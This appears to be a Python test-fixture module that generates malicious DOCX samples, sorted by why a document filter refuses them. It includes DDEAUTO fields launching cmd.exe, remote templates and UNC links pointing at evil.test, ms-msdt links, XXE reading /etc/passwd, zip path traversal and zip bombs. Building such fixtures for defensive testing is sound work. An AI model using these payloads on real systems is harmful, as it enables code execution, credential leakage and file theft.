"""DOCX that are more than documents, by the reason for which each is refused."""

import functools
import io
import stat
import zipfile

import openpyxl

from tests.documents import archives
from tests.documents.archives import formula, ole, packed, parts_of, with_entries, with_flag
from tests.documents.docx import (
    DOCUMENT,
    DOCUMENT_RELS,
    MAIN_TYPE,
    MICROSOFT,
    SETTINGS_RELS,
    TYPES,
    before,
    body,
    boundary,
    changed,
    embedded,
    field,
    letter,
    part,
    related,
    said,
    typed,
)

VBA = ole({"VBA": b"Attribute VB_Name", "PROJECT": b"ID="})
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"


def one(*changes):
    """Put off until the file is needed."""
    return functools.partial(changed, *changes)


MACROS = {
    "as Word keeps them": one(part("word/vbaProject.bin", VBA)),
    "under another name": one(
        part("word/data.bin", VBA), related(MICROSOFT + "vbaProject", "data.bin", mode=""), typed(".bin", "a/b")
    ),
    "under another name and type": one(
        part("word/a.bin", VBA), typed("word/a.bin", "application/vnd.ms-office.vbaProject")
    ),
    "in capitals": one(part("word/VBAPROJECT.BIN", VBA)),
    "DOCM": one(said(MAIN_TYPE, MACRO_TYPE, TYPES)),
    "beside their data": one(part("word/vbaData.xml", "<a/>")),
}
RUNNING = {
    "ActiveX": one(part("word/activeX/activeX1.xml", "<a/>"), related("control", "activeX/activeX1.xml", mode="")),
    "ActiveX elsewhere": one(part("word/a.xml", "<a/>"), related("control", "a.xml", mode="")),
    "ActiveX by type": one(part("word/b.bin", b"a"), typed("word/b.bin", "application/vnd.ms-office.activeX")),
    "a control in the text": one(body('<w:p><w:r><w:object><w:control w:name="a"/></w:object></w:r></w:p>')),
    "a chunk of HTML": one(
        part("word/a.htm", "<html>a</html>"), related("aFChunk", "a.htm", mode=""), body('<w:altChunk r:id="rId900"/>')
    ),
    "a chunk of another DOCX": one(part("word/b.docx", letter()), related("aFChunk", "/word/b.docx", mode="")),
    "DDE": one(body(field('DDE Excel "a" "b"'))),
    "DDEAUTO": one(body(field(r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'))),
    "DDE in pieces": one(body(field(" D", "DE", 'AUTO cmd "/k"'))),
    "DDE in a simple field": one(body('<w:p><w:fldSimple w:instr=" ddeauto cmd a"><w:r/></w:fldSimple></w:p>')),
    "DDE at the foot": one(
        part("word/footer9.xml", f'<w:ftr xmlns:w="a">{field("DDE a b")}</w:ftr>'),
        related("footer", "footer9.xml", mode=""),
    ),
    "DDE worked out by a field": one(body(f"<w:p>{boundary('begin')}{field('QUOTE 68 68 69')}{boundary('end')}</w:p>")),
    "DDE that was deleted": one(body(field("DDEAUTO a b", element="w:delInstrText"))),
    "a web page as a picture": one(
        part("word/media/image9.bin", "<!DOCTYPE html><script>"), typed(".bin", "image/png")
    ),
}
SHARE = r"\\evil.test\share\a.dotm"
TEMPLATE = functools.partial(related, "attachedTemplate", rels=SETTINGS_RELS)
LOADING = {
    "a template of the web": one(TEMPLATE("https://evil.test/a.dotm")),
    "a template, in capitals": one(TEMPLATE("HTTP://EVIL.TEST/A.DOTM", mode="EXTERNAL")),
    "a template, by one slash": one(TEMPLATE("http:/evil.test/a.dotm")),
    "a template, by a backslash": one(TEMPLATE(r"http:\\evil.test\a.dotm")),
    "a template with percent signs": one(TEMPLATE("%68ttp://evil.test/a.dotm")),
    "a template behind a space": one(TEMPLATE("\thttp://evil.test/a.dotm")),
    "a template without a mode": one(TEMPLATE("http://evil.test/a.dotm", mode="")),
    "a template on a share": one(TEMPLATE(SHARE)),
    "a template on a share, by slashes": one(TEMPLATE("//evil.test/share/a.dotm")),
    "a template on a share, as a file": one(TEMPLATE("file://evil.test/share/a.dotm")),
    "a template on a share, with four slashes": one(TEMPLATE("file:////evil.test/share/a.dotm")),
    "a template on a share, file and backslashes": one(TEMPLATE(r"file:///\\evil.test\share\a.dotm")),
    "a template on a share, as a device": one(TEMPLATE(r"\\?\UNC\evil.test\share\a.dotm")),
    "a template of the glossary": one(
        related("attachedTemplate", "ftp://evil.test/a", rels="word/glossary/_rels/settings.xml.rels")
    ),
    "a template of the strict standard": one(
        related(
            "http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate",
            "http://e.test/a",
            rels=SETTINGS_RELS,
        )
    ),
    "a picture of the web": one(related("image", "https://evil.test/a.png")),
    "a picture at the head": one(related("image", "http://evil.test/a.png", rels="word/_rels/header1.xml.rels")),
    "a picture in a footnote": one(related("image", "http://evil.test/a.png", rels="word/_rels/footnotes.xml.rels")),
    "a picture on a share": one(related("image", r"\\evil.test\a.png")),
    "a picture of VML": one(
        body('<w:p><w:r><w:pict><v:imagedata xmlns:v="a" src="http://e.test/a"/></w:pict></w:r></w:p>')
    ),
    "a picture of a field": one(body(field(r'INCLUDEPICTURE "http://evil.test/a.png" \d'))),
    "text of a field": one(body(field("INCLUDETEXT", r' "\\\\evil.test\\share\\a.docx"'))),
    "film of the web": one(related("video", "https://evil.test/a.mp4")),
    "an object of the web": one(related("oleObject", "http://evil.test/a")),
    "an object by MHTML": one(related("oleObject", "mhtml:http://evil.test/a.html!x-usc:http://evil.test/a.html")),
    "an object on the writer's disk": one(related("oleObject", "file:///C:/a.xlsx")),
    "a part of a document": one(related("subDocument", "file:///C:/a.docx")),
    "a frame": one(related("frame", "http://evil.test/a.htm", rels="word/_rels/webSettings.xml.rels")),
    "addresses of letters": one(related("mailMergeSource", "file:///C:/a.csv", rels=SETTINGS_RELS)),
    "a database": one(
        part("word/a.xml", '<w:settings xmlns:w="a"><w:mailMerge><w:connectString/></w:mailMerge></w:settings>')
    ),
    "a style sheet of XML": one(related("transform", "http://evil.test/a.xsl", rels=SETTINGS_RELS)),
    "numbers of a chart": one(
        related("oleObject", "http://evil.test/a.xlsx", rels="word/charts/_rels/chart1.xml.rels")
    ),
    "a picture inside SVG": one(
        part("word/media/a.svg", '<svg xmlns="a"><image href="http://evil.test/a.png"/></svg>'),
        typed(".svg", "image/svg+xml"),
    ),
}
REACHING = {
    "a link to a share": one(related("hyperlink", r"\\evil.test\share")),
    "a link to a program of Windows": one(related("hyperlink", "ms-msdt:/id a")),
    "a link of a field to a share": one(body(field('HYPERLINK "', r'\\\\evil.test\\a"'))),
    "a link to a program on the disk": one(related("hyperlink", r"file:///C:\Windows\System32\cmd.exe")),
    "a share that all links begin with": one(
        part("docProps/app.xml", "<Properties><HyperlinkBase>\\\\evil.test\\a</HyperlinkBase></Properties>")
    ),
}


def sheet(*changes) -> bytes:
    """A workbook of Excel, by openpyxl."""
    book, content = openpyxl.Workbook(), io.BytesIO()
    book.active["A1"] = 1
    book.save(content)
    return changed(*changes, base=content.getvalue()) if changes else content.getvalue()


OBJECTS = {
    "a package": one(*embedded("a.bin", ole({"\x01Ole10Native": b"cv.exe"}, archives.PACKAGE))),
    "an old sheet": one(*embedded("a.bin", ole({"Workbook": b"a"}, archives.SHEET))),
    "an object elsewhere": one(part("word/media/image9.png", ole({"\x01Ole10Native": b"a"}, archives.PACKAGE))),
    "a formula that holds a file": one(
        *embedded("a.bin", ole({"Equation Native": archives.OLD_FORMULA, "\x01Ole10Native": b"a"}, archives.EQUATION))
    ),
    "a formula with a long font": one(
        *embedded("a.bin", ole({"Equation Native": formula(b"\3\1\1\3\0\x08\x5a\x5a" + b"A" * 90)}, archives.EQUATION))
    ),
    "a formula of another class": one(
        *embedded("a.bin", ole({"Equation Native": archives.OLD_FORMULA}, archives.PACKAGE))
    ),
    "a formula without its head": one(*embedded("a.bin", ole({"Equation Native": b"\3\1\1"}, archives.EQUATION))),
    "anything": one(*embedded("a.bin", b"anything")),
    "a sheet with an object": lambda: changed(
        *embedded("a.xlsx", sheet(part("xl/embeddings/a.bin", ole({"a": b"b"})), typed(".bin", "a/b")), "package")
    ),
    "a document with a document": lambda: changed(
        *embedded("a.docx", changed(*embedded("b.docx", letter(), "package")), "package")
    ),
}
FILES = {
    "a program": one(*embedded("a.exe", b"MZ\x90\0", "package")),
    "a program as a picture": one(part("word/media/image9.png", b"MZ\x90\0" + b"\0" * 99)),
    "a shortcut": one(part("word/media/a.bin", b"L\0\0\0\x01\x14\x02\0"), typed(".bin", "a/b")),
    "an archive": lambda: changed(*embedded("a.zip", packed({"a.exe": b"MZ"}), "package")),
    "an archive as a picture": lambda: changed(part("word/media/image9.png", packed({"a.exe": b"MZ"}))),
    "a PDF": one(*embedded("a.pdf", b"%PDF-1.7", "package")),
    "RTF": one(part("word/media/a.bin", rb"{\rtf1"), typed(".bin", "a/b")),
}
INNER = {
    "macros": {"in a sheet": lambda: changed(*embedded("a.xlsm", sheet(part("xl/vbaProject.bin", VBA)), "package"))},
    "loads": {
        "in a sheet": lambda: changed(
            *embedded(
                "a.xlsx", sheet(related("image", "http://e.test/a", rels="xl/_rels/workbook.xml.rels")), "package"
            )
        )
    },
    "active": {
        "in a sheet": lambda: changed(
            *embedded("a.xlsx", sheet(part("xl/externalLinks/externalLink1.xml", '<a><ddeLink a="b"/></a>')), "package")
        )
    },
}
DTD = '<!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
XXE = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>'


ENTITIES = {
    "a bomb": one(before(DTD)),
    "a file of the server": one(before(XXE)),
    "definitions of the web": one(before('<!DOCTYPE a SYSTEM "http://evil.test/a.dtd">')),
    "in relationships": one(before(XXE, DOCUMENT_RELS)),
    "in the types": one(before(XXE, TYPES)),
    "in UTF-16": one(before(XXE, encoding="utf-16")),
    "in kept XML": one(part("customXml/item1.xml", f"{XXE}<a>&b;</a>")),
    "in a picture": one(part("word/media/a.svg", f"{XXE}<svg>&b;</svg>"), typed(".svg", "image/svg+xml")),
}
ODD = {
    "a name that leaves the archive": one(part("../../evil.txt", "a")),
    "a name that leaves it inside": one(part("word/../../evil.txt", "a")),
    "a name of the whole disk": one(part("/etc/cron.d/evil", "a")),
    "a name of a drive": one(part("C:evil.txt", "a")),
    "a name with backslashes": one(part("..\\evil.txt", "a")),
    "a name with a NUL": lambda: changed(part("word/evilA.txt", "a")).replace(b"evilA", b"evil\0"),
    "two parts of one name": lambda: changed(part("word/documenu.xml", "<a/>")).replace(b"documenu", b"document"),
    "two parts of one name but for capitals": one(part("word/Document.xml", "<a/>")),
    "a symbolic link": lambda: with_entries(
        letter(),
        lambda entry: (
            setattr(entry, "external_attr", (stat.S_IFLNK | 0o777) << 16) if "theme" in entry.filename else None
        ),
    ),
}


def overlapping() -> bytes:
    """Many entries of the directory over the same packed bytes (D. Fifield, A better zip bomb)."""
    parts = parts_of(letter()) | {f"word/a{number:03}.xml": b"<a>" + b" " * 100_000 + b"</a>" for number in range(300)}
    content = packed(parts, zipfile.ZIP_STORED)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        first = archive.getinfo("word/a000.xml").header_offset
    start = content.rindex(b"word/a000.xml") - 46
    directory, end = bytearray(content[start : content.rindex(b"PK\5\6")]), content[content.rindex(b"PK\5\6") :]
    for at in range(0, len(directory), 46 + 13):
        directory[at + 42 : at + 46] = first.to_bytes(4, "little")
    kept = content[:first] + content[first : first + 150_000]
    before = content[content.index(b"PK\1\2") : start]
    end = bytearray(end)
    end[16:20] = len(kept).to_bytes(4, "little")
    return kept + before + bytes(directory) + bytes(end)


TOO_COMPLEX = {
    "60 MB of white space": one(part("word/a.xml", b"<a>" + b" " * 60_000_000 + b"</a>")),
    "60 MB in a picture": one(part("word/media/a.png", b"\0" * 60_000_000)),
    "2,100 parts": lambda: changed(lambda _parts: {f"word/a{number}.xml": "<a/>" for number in range(2_100)}),
    "parts over each other": overlapping,
}
TWO_TYPES = {
    "a web page behind": lambda: letter() + b"<script>alert(1)</script>",
    "a PDF behind": lambda: letter() + b"%PDF-1.7\n%%EOF",
    "a program as a comment": lambda: letter()[:-2] + b"\4\1" + b"MZ\x90\0" * 65,
}
DAMAGED = {
    "cut off": lambda: letter()[:-40],
    "half of it": lambda: letter()[: len(letter()) // 2],
    "a script before": lambda: b"PK#!/bin/sh\n" + letter(),
    "another archive before": lambda: packed({"a.exe": b"MZ"}) + letter(),
    "without its text": lambda: packed({name: part for name, part in parts_of(letter()).items() if name != DOCUMENT}),
    "text that is no XML": one(said("</w:body>", "</w:bodi>")),
    "relationships that are no XML": one(said("</Relationships>", "", DOCUMENT_RELS)),
    "an encoding that nobody knows": one(before("", encoding="utf-8"), said('"utf-8"', '"rot13"')),
    "an odd way of packing": lambda: changed(method=zipfile.ZIP_LZMA),
}
HOSTILE = {
    "macros": MACROS | INNER["macros"],
    "active": RUNNING | INNER["active"],
    "loads": LOADING | INNER["loads"],
    "reaches_out": REACHING,
    "embedded_object": OBJECTS,
    "holds_files": FILES,
    "media": {
        "film": one(part("word/media/a.mp4", b"\0\0\0\x18ftypmp42"), related("video", "media/a.mp4", mode="")),
        "film of a page": one(body('<wp15:webVideoPr xmlns:wp15="a" embeddedHtml="&lt;iframe&gt;"/>')),
        "sound": one(part("word/media/a.bin", b"RIFF\0\0\0\0WAVEfmt "), typed(".bin", "audio/wav")),
    },
    "programs": {
        "a link to a program": one(related("hyperlink", "javascript:alert(1)")),
        "a link of a drawing": one(
            body('<w:p><w:r><w:pict><v:shape xmlns:v="a" href="vbscript:a"/></w:pict></w:r></w:p>')
        ),
        "in SVG": one(part("word/media/a.svg", "<svg><script>a</script></svg>"), typed(".svg", "image/svg+xml")),
    },
    "entities": ENTITIES,
    "odd_archive": ODD,
    "too_complex": TOO_COMPLEX,
    "two_types": TWO_TYPES,
    "damaged": DAMAGED,
    "protected": {"a part": lambda: with_flag(letter())},
    "other": {
        "Excel": sheet,
        "a template": one(said("document.main", "template.main", TYPES)),
    },
    "archive": {"an archive": lambda: packed({"cv.pdf": b"%PDF"})},
}
